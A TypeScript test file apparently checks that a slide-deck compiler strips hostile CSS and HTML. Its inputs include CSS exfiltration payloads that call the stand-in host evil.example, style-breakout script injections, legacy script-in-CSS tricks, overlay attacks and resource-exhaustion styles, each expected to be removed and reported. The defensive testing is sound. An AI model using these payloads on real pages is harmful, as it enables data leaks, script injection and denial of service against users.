/** Attacks through styles: a slide can look as its author likes, but it fetches nothing, leaves no slide, and reaches no other. */
import { describe, expect, test } from 'vitest';
import { compileHostile } from './hostile.js';

const many = (text: string, times: number): string => text.repeat(times);
const asStyle = (css: string): string => `# One\n\n<style>${css}</style>\n\nwords\n`;

/** The styles that came from the deck: those after the marks of the page's own layers. */
function deckStyles(html: string): string {
  return [...html.matchAll(/@layer lectern\.deck\s*\{([^]*?)<\/style>/g)].map(([, css]) => css).join('\n');
}

test.each([
  [94, '@import url(http://evil.example/a.css);', 'evil'],
  [94, '@import "http://evil.example/a.css";', 'evil'],
  [95, '[value^="a"]{background:url(http://evil.example/a)}', 'evil'],
  [95, 'p{background:image-set("http://evil.example/a" 1x)}', 'evil'],
  [95, 'p{background:\\75rl(http://evil.example/a)}', 'evil'],
  [97, 'p{width:expression(alert(1))}', 'expression'],
  [97, 'p{-moz-binding:url(x.xml#a)}', '-moz-binding'],
  [97, 'p{behavior:url(x.htc)}', 'behavior'],
  [99, ':root{--r-main-color:red}} body{color:red}', 'body{'],
])('%i: %s is gone and said', async (_, css, gone) => {
  const page = await compileHostile(asStyle(css));
  expect(deckStyles(page.html)).not.toContain(gone);
  expect(
    page.messages.filter(({ rule, line }) => rule === 'style-removed' && line === 3).length,
  ).toBeGreaterThan(0);
});

test.each(['position:fixed;inset:0', 'position:sticky', 'p\\6fsition:fixed', 'position:/**/fixed'])(
  '96: the inline style %s covers nothing',
  async (style) => {
    const page = await compileHostile(`# One\n\n<p style="${style}">words</p>\n`);
    expect(page.rules).toContain('style-removed');
    expect(page.words).toContain('words');
  },
);

test.each([
  '</style><script>alert(1)</script>',
  '<\\/style><script>alert(1)</script>',
  '<!--</style>--><script>alert(1)</script>',
])('98: a value of a theme that holds %s', async (value) => {
  await compileHostile(
    `---\ntokens:\n  ink: '${value}'\n  font-sans: '${value}'\nfooter: '${value}'\n---\n\n# One\n`,
  );
  const page = await compileHostile(asStyle(`p::after{content:"${value}"}`));
  expect(page.words).toContain('One');
});

describe('99: what a slide says of itself', () => {
  test('reaches no other slide and nothing around them', async () => {
    const page = await compileHostile(
      `${asStyle('.reveal, body, html, .slides{display:none} p{color:red}')}\n---\n\ntwo\n`,
    );
    const css = deckStyles(page.html);
    expect(css === '' || css.includes('@scope')).toBe(true);
    expect(page.html).toContain('@scope ([id="one"])');
  });
});

test.each([
  ['a text without end', `p::after{content:"${many('x', 900_000)}"}`],
  ['an animation without end', '@keyframes a{from{left:0}to{left:9px}} p{animation:a 1s infinite}'],
  ['sums in sums', `p{width:${many('calc(', 2000)}1px${many(')', 2000)}}`],
  [
    'a hundred thousand selectors',
    `${Array.from({ length: 90_000 }, (_, index) => `.a${index}`).join(',')}{color:red}`,
  ],
  ['blocks in blocks', `${many('p{', 5000)}color:red${many('}', 5000)}`],
  ['brackets in brackets', many('[', 900)],
])('100: %s is answered', async (_, css) => {
  const started = performance.now();
  const page = await compileHostile(asStyle(css));
  // What is too deep for any parser is refused whole, with a line.
  if (page.sections.length > 0) expect(page.words).toContain('words');
  else expect(page.messages.some(({ line }) => line !== undefined)).toBe(true);
  expect(performance.now() - started).toBeLessThan(60_000);
});
